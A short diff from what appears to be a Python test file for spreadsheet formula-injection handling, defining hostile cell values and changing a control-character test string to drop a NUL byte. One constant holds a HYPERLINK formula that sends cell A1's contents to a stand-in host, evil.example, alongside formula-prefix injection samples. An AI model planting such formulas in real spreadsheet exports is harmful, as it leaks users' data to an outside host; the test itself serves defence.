@@ -12,7 +12,7 @@ from policyledger.formats.cells import formula_cells
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 PREFIXED = ["+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
-CONTROL = "第一批\x0b消费券\x00已发放\x1f。"
+CONTROL = "第一批\x0b消费券\x08已发放\x1f。"  # no NUL: PostgreSQL cannot store it
 
 
 def _poison(programme, units):
